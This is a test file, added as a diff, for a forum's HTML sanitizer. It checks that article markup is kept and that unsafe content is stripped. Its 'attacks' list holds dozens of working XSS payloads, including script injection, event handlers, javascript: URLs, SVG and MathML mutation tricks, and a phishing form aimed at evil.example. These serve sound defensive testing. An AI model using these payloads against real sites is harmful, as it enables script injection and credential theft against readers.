@@ -1,0 +1,187 @@
+// @vitest-environment node
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { files } from '../../db/schema/site.ts';
+import { startTestProvider, type TestProvider } from '../../testing.ts';
+
+const FILE = '/api/v1/files/k3jd82h1m0qz-1280x960.webp';
+let provider: TestProvider;
+let token: string;
+
+beforeAll(async () => {
+  provider = await startTestProvider();
+  provider.services.limits = { ...provider.services.limits, use: async () => undefined };
+  token = (await provider.member()).token;
+  await provider.services.database.write((tx) =>
+    tx
+      .insert(files)
+      .values({ id: 'k3jd82h1m0qz-1280x960.webp', width: 1280, height: 960, size: 1 }),
+  );
+});
+afterAll(() => provider.stop());
+
+/** What is kept of an HTML behind a paragraph, through the call that writes. */
+async function kept(html: string): Promise<string> {
+  const body = { title: '글', content: `<p>글</p>${html}` };
+  const answer = await provider.call('POST', 'posts/', { token, body });
+  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
+  return answer.body.content.replace('<p>글</p>', '');
+}
+
+describe('what an article is made of stays', () => {
+  it.each([
+    '<h2>제목</h2><h3>작은 제목</h3><p>글<br />다음 줄</p>',
+    '<ul><li>하나</li></ul><ol><li><p>둘</p></li></ol>',
+    '<blockquote><p>인용</p></blockquote><pre><code>코드</code></pre><hr />',
+    '<p><strong>굵게</strong> <em>기울여</em> <s>지움</s> <u>밑줄</u></p>',
+  ])('%s', async (html) => {
+    expect(await kept(html)).toBe(html);
+  });
+
+  it('a link, with nothing passed on to where it leads', async () => {
+    expect(await kept('<a href="https://gyeol.example/a?b=1" target="_blank">곳</a>')).toBe(
+      '<a href="https://gyeol.example/a?b=1" rel="noopener nofollow ugc">곳</a>',
+    );
+    expect(await kept('<a href="/forums/free">포럼</a>')).toContain('href="/forums/free"');
+  });
+
+  it('a picture of ours, in its widths and without what came with it', async () => {
+    const html = await kept(
+      `<img src="${FILE}" alt="병 &quot;둘&quot;" style="width:1px" onload="x()">`,
+    );
+    expect(html).toContain(`src="${FILE}" alt="병 &quot;둘&quot;" width="1280" height="960"`);
+    expect(html).toContain(`${FILE}?w=640 640w`);
+    expect(html).toContain('loading="lazy"');
+    expect(html).not.toMatch(/style|onload/);
+    expect(await kept(html)).toBe(html);
+  });
+
+  it.each([
+    '<a data-video="dQw4w9WgXcQ" href="https://evil.example">영상</a>',
+    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x"></iframe>',
+    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
+  ])('a video, as a link to its own page: %s', async (html) => {
+    const shown = await kept(html);
+    expect(shown).toMatch(
+      /^<a data-video="dQw4w9WgXcQ" href="https:\/\/www\.youtube\.com\/watch\?v=dQw4w9WgXcQ" rel="noopener nofollow ugc">.+<\/a>$/,
+    );
+    expect(await kept(shown)).toBe(shown);
+  });
+
+  it('what an old editor writes, in the site’s own elements', async () => {
+    expect(await kept('<h1>가</h1><div><b>나</b><i>다</i></div><h5>라</h5>')).toBe(
+      '<h2>가</h2><p><strong>나</strong><em>다</em></p><h3>라</h3>',
+    );
+  });
+});
+
+/** Everything that runs, loads, frames, styles or leads elsewhere. */
+const attacks = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<img src="//evil.example/pixel.gif">',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  `<img src="${FILE}/../../../auth/logout/">`,
+  `<img src="${FILE}" srcset="https://evil.example/a 1w" onerror="alert(1)">`,
+  '<img/src="x"/onerror="alert(1)"//',
+  '<svg onload=alert(1)><circle /></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://bank.example@evil.example/">x</a>',
+  '<a href="https://user:secret@evil.example/">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
+  '<a data-video="x\'onmouseover=alert(1)" href="javascript:alert(1)">x</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
+  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
+  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<p style="background:url(https://evil.example)">x</p>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<form action="https://evil.example"><input name=password><button>x</button></form>',
+  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)><option>x</option></select>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<template><script>alert(1)</script></template>',
+  '<plaintext><script>alert(1)</script>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><x onclick=alert(1)>x</x>',
+  '<p id="__next" name="location" class="toast">x</p>',
+  '<a id=x tabindex=1 onfocus=alert(1)>x</a>',
+  '"><img src=x onerror=alert(1)>',
+  '<div><p title="</p><script>alert(1)</script>">x</p></div>',
+  '<b <script>alert(1)</script>0',
+  '<a href="https://ok.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
+];
+
+const TAGS = /^(h2|h3|p|ul|ol|li|blockquote|pre|code|hr|br|a|strong|em|s|u|img)$/;
+
+describe('what could harm a reader goes', () => {
+  it.each(attacks)('%s', async (html) => {
+    const { JSDOM } = await import('jsdom');
+    const shown = await kept(html);
+    // Read as a browser reads it, so that what only its parser would find is found.
+    const { document } = new JSDOM(`<article>${shown}</article>`).window;
+    for (const element of document.querySelectorAll('article *')) {
+      expect(element.localName).toMatch(TAGS);
+      for (const { name, value } of element.attributes) {
+        // No name or password before the host, which disguises where a link leads.
+        if (name === 'href') {
+          expect(value).toMatch(/^(https?:\/\/(?![^/]*@)|mailto:|\/(?!\/))/);
+        } else if (name === 'src') expect(value).toBe(FILE);
+        else if (name === 'srcset') expect(value).not.toContain('evil');
+        else
+          expect([
+            'alt',
+            'width',
+            'height',
+            'sizes',
+            'loading',
+            'decoding',
+            'rel',
+            'data-video',
+          ]).toContain(name);
+        if (name === 'data-video') expect(value).toMatch(/^[\w-]{11}$/);
+      }
+    }
+    expect(document.querySelectorAll('body > :not(article)')).toHaveLength(0);
+    // What is clean stays as it is, so that no second pass turns it into something else.
+    expect(await kept(shown)).toBe(shown);
+  });
+});
+
+it('keeps the words for lists and searches, as they are read', async () => {
+  const body = {
+    title: '글',
+    content: '<h2>성분 A &amp; B</h2><p>5 &lt; 7<br>다음</p><ul><li>하나</li><li>둘</li></ul>',
+  };
+  const { body: answer } = await provider.call('POST', 'posts/', { token, body });
+  expect(answer.excerpt).toBe('성분 A & B 5 < 7 다음 하나 둘');
+});
